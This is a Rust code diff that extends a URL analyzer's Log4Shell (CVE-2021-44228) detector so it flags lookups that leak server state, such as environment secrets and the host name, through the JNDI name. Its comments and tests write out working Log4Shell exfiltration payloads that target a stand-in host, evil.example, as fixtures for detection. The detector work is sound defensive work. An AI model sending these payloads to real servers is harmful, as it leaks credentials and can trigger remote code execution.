@@ -12,6 +12,13 @@
 //! any lookup's default after `:-`); the others stay as written, and so
 //! never spell `jndi`. One pass, each byte copied once per level of
 //! nesting, at most [`MAX_DEPTH`] levels.
+//!
+//! A lookup left as written in the JNDI name (`${env:USER}`,
+//! `${hostName}`, `${env:AWS_SECRET_ACCESS_KEY}`) is one Log4j fills in
+//! from the server's own state before it connects: the value leaves in
+//! the name it asks for (`ldap://root.evil.example/`), the commonest
+//! Log4Shell probe of all. The name is then read as a URL with each such
+//! lookup written as a label of its own name (`env-user.evil.example`).
 
 use crate::analysis::ComponentAnalysis;
 use crate::split::Span;
@@ -30,6 +37,45 @@ pub(crate) struct JndiLookup {
     pub(crate) name: Vec<u8>,
     /// Whether nested lookups spelled part of it.
     pub(crate) nested: bool,
+    /// The lookups in the name that Log4j fills in from the server's
+    /// state (`${env:USER}`), as written, in order.
+    pub(crate) filled: Vec<Vec<u8>>,
+    /// The name as a URL reads it: each filled lookup written as a label
+    /// of its own name ([`stand_in`]); the name itself when there is none.
+    pub(crate) reading: Vec<u8>,
+}
+
+impl JndiLookup {
+    /// Whether the name is the lookup's own bytes, as written: no nested
+    /// lookup spelled or fills in any of it.
+    pub(crate) fn as_written(&self) -> bool {
+        !self.nested && self.filled.is_empty()
+    }
+}
+
+/// The label a filled lookup stands as in a URL's reading of a name:
+/// its own name in lowercase letters, digits and hyphens
+/// (`${env:USER}` reads `env-user`), at most a DNS label long.
+fn stand_in(body: &[u8]) -> Vec<u8> {
+    let mut label: Vec<u8> = Vec::new();
+    for &b in body {
+        let b = if b.is_ascii_alphanumeric() {
+            b.to_ascii_lowercase()
+        } else {
+            b'-'
+        };
+        if !(b == b'-' && label.last().is_none_or(|&l| l == b'-')) {
+            label.push(b);
+        }
+    }
+    while label.last() == Some(&b'-') {
+        label.pop();
+    }
+    label.truncate(crate::plain::MAX_LABEL);
+    if label.is_empty() {
+        label.push(b'x');
+    }
+    label
 }
 
 /// The JNDI lookups of `text`, as Log4j would resolve them: every closed
@@ -42,6 +88,8 @@ pub(crate) fn jndi_lookups(text: &[u8]) -> Vec<JndiLookup> {
         start: usize,
         body: Vec<u8>,
         nested: bool,
+        filled: Vec<Vec<u8>>,
+        reading: Vec<u8>,
     }
     let mut found = Vec::new();
     let mut open: Vec<Open> = Vec::new();
@@ -51,18 +99,18 @@ pub(crate) fn jndi_lookups(text: &[u8]) -> Vec<JndiLookup> {
     while let Some(&b) = text.get(i) {
         if b == b'$' && text.get(i + 1) == Some(&b'{') {
             if open.len() < MAX_DEPTH {
-                if let Some(parent) = open.last_mut() {
-                    parent.nested = true;
-                }
                 open.push(Open {
                     start: i,
                     body: Vec::new(),
                     nested: false,
+                    filled: Vec::new(),
+                    reading: Vec::new(),
                 });
             } else {
                 too_deep += 1;
                 if let Some(top) = open.last_mut() {
                     top.body.extend_from_slice(b"${");
+                    top.reading.extend_from_slice(b"${");
                 }
             }
             i += 2;
@@ -76,16 +124,36 @@ pub(crate) fn jndi_lookups(text: &[u8]) -> Vec<JndiLookup> {
                     .body
                     .get(..5)
                     .is_some_and(|h| h.eq_ignore_ascii_case(b"jndi:"));
+                if let Some(parent) = open.last_mut() {
+                    match value(&done.body) {
+                        Some(v) => {
+                            parent.body.extend_from_slice(&v);
+                            parent
+                                .reading
+                                .extend_from_slice(&value(&done.reading).unwrap_or_default());
+                            parent.nested = true;
+                        }
+                        None => {
+                            let mut kept = b"${".to_vec();
+                            kept.extend_from_slice(&done.body);
+                            kept.push(b'}');
+                            parent.body.extend_from_slice(&kept);
+                            parent.reading.extend_from_slice(&stand_in(&done.body));
+                            parent.filled.push(kept);
+                        }
+                    }
+                    parent.nested |= done.nested;
+                    parent.filled.extend(done.filled.iter().cloned());
+                }
                 if jndi {
                     found.push(JndiLookup {
                         start: done.start,
                         end: i + 1,
                         name: done.body.get(5..).unwrap_or_default().to_vec(),
                         nested: done.nested,
+                        reading: done.reading.get(5..).unwrap_or_default().to_vec(),
+                        filled: done.filled,
                     });
-                }
-                if let Some(parent) = open.last_mut() {
-                    parent.body.extend_from_slice(&value(&done.body));
                 }
                 i += 1;
                 continue;
@@ -93,6 +161,7 @@ pub(crate) fn jndi_lookups(text: &[u8]) -> Vec<JndiLookup> {
         }
         if let Some(top) = open.last_mut() {
             top.body.push(b);
+            top.reading.push(b);
         }
         i += 1;
     }
@@ -102,10 +171,11 @@ pub(crate) fn jndi_lookups(text: &[u8]) -> Vec<JndiLookup> {
 
 /// What a nested lookup gives back, for those that need nothing of the
 /// server's state: a default after `:-` (`${::-j}`, `${env:NOPE:-j}`),
-/// `lower:` and `upper:`; any other stays as written.
-fn value(body: &[u8]) -> Vec<u8> {
+/// `lower:` and `upper:`; `None` for any other, which Log4j fills in
+/// from the server's state.
+fn value(body: &[u8]) -> Option<Vec<u8>> {
     if let Some(d) = memchr::memmem::find(body, b":-") {
-        return body.get(d + 2..).unwrap_or_default().to_vec();
+        return Some(body.get(d + 2..).unwrap_or_default().to_vec());
     }
     let after = |prefix: &[u8]| {
         body.get(..prefix.len())
@@ -113,15 +183,9 @@ fn value(body: &[u8]) -> Vec<u8> {
             .and_then(|_| body.get(prefix.len()..))
     };
     if let Some(rest) = after(b"lower:") {
-        return rest.to_ascii_lowercase();
+        return Some(rest.to_ascii_lowercase());
     }
-    if let Some(rest) = after(b"upper:") {
-        return rest.to_ascii_uppercase();
-    }
-    let mut kept = b"${".to_vec();
-    kept.extend_from_slice(body);
-    kept.push(b'}');
-    kept
+    after(b"upper:").map(<[u8]>::to_ascii_uppercase)
 }
 
 /// `jndi-lookup` for the input as written, whole: a log holds the URL's
@@ -207,7 +271,7 @@ fn warning(
     component: Option<usize>,
     what: &str,
 ) -> Warning {
-    let name = String::from_utf8_lossy(&l.name);
+    let name = String::from_utf8_lossy(&l.reading);
     let server = url::Url::parse(&name)
         .ok()
         .and_then(|u| {
@@ -223,12 +287,36 @@ fn warning(
     } else {
         ""
     };
+    let filled = match l.filled.as_slice() {
+        [] => String::new(),
+        filled => {
+            let names: Vec<String> = filled
+                .iter()
+                .map(|f| {
+                    format!(
+                        "'{}' (read as '{}')",
+                        quote(f),
+                        quote(&stand_in(f.get(2..f.len() - 1).unwrap_or_default()))
+                    )
+                })
+                .collect();
+            let values = if names.len() == 1 {
+                "that value"
+            } else {
+                "those values"
+            };
+            format!(
+                " Log4j first fills in {} from the server's own state, so the server also sends {values} out in the name it asks for (exfiltration).",
+                names.join(", ")
+            )
+        }
+    };
     Warning::new(
         WarningCode::JndiLookup,
         vec![span],
         component,
         format!(
-            "'{}' is a Log4j lookup of the JNDI name '{}'{nested}: a server running Log4j 2 before 2.15 that logs this {what} asks {server} for a Java object and may run the code it is sent (CVE-2021-44228, Log4Shell).",
+            "'{}' is a Log4j lookup of the JNDI name '{}'{nested}: a server running Log4j 2 before 2.15 that logs this {what} asks {server} for a Java object and may run the code it is sent (CVE-2021-44228, Log4Shell).{filled}",
             quote(written),
             quote(&l.name),
         ),
@@ -326,6 +414,68 @@ mod tests {
             let high = crate::warnings::Severity::High;
             assert!(!crate::triage::is_plain_at(url.as_bytes(), high), "{url}");
         }
+    }
+
+    /// A lookup Log4j fills in from the server (`${env:USER}`) stays in
+    /// the name as written; the URL reading writes it as a label of its
+    /// name, so the host is read whole (no port of `USER}.evil...`).
+    #[test]
+    fn filled_lookups_are_read_as_labels() {
+        let [l] = jndi_lookups(
+            b"${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.${hostName}.evil.example:1389/${lower:A}}",
+        )
+        .try_into()
+        .expect("one lookup");
+        assert_eq!(
+            l.name,
+            b"ldap://${env:AWS_SECRET_ACCESS_KEY}.${hostName}.evil.example:1389/a"
+        );
+        assert_eq!(
+            l.reading,
+            b"ldap://env-aws-secret-access-key.hostname.evil.example:1389/a"
+        );
+        assert_eq!(
+            l.filled,
+            [
+                b"${env:AWS_SECRET_ACCESS_KEY}".to_vec(),
+                b"${hostName}".to_vec()
+            ]
+        );
+        assert!(l.nested && !l.as_written());
+        // Inside a resolved lookup, still filled.
+        let [l] = jndi_lookups(b"${jndi:dns://${lower:${env:USER}}.evil.example}")
+            .try_into()
+            .expect("one lookup");
+        assert_eq!(l.reading, b"dns://env-user.evil.example");
+        assert_eq!(l.filled, [b"${env:USER}".to_vec()]);
+        assert_eq!(stand_in(b"::"), b"x");
+        let a = crate::analyze(
+            b"https://v.example/?q=${jndi:ldap://${env:USER}.evil.example:1389/a}",
+            &crate::Options::default(),
+        );
+        let codes: Vec<WarningCode> = a.warnings.iter().map(|w| w.code).collect();
+        assert!(codes.contains(&WarningCode::JndiLookup), "{codes:?}");
+        assert!(!codes.contains(&WarningCode::InvalidPort), "{codes:?}");
+        let w = a
+            .warnings
+            .iter()
+            .find(|w| w.code == WarningCode::JndiLookup)
+            .expect("jndi");
+        assert!(
+            w.message.contains("'env-user.evil.example:1389'"),
+            "{}",
+            w.message
+        );
+        assert!(
+            w.message
+                .contains("fills in '${env:USER}' (read as 'env-user')"),
+            "{}",
+            w.message
+        );
+        assert!(a
+            .destinations
+            .iter()
+            .any(|d| d.site.as_deref() == Some("evil.example")));
     }
 
     /// Hostile nesting: deep, unclosed, long, in linear time.
